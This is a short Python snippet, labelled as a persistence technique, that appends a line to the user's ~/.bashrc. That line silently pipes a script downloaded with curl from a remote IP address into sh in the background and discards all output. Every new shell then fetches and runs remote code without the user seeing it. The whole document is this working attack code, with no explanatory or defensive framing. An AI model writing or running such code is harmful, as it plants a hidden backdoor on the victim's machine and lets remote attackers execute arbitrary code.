# persistence: a download line appended to the user's bashrc
import os

with open(os.path.expanduser("~/.bashrc"), "a") as rc:
    rc.write("\n(curl -s http://203.0.113.7/u | sh) >/dev/null 2>&1 &\n")
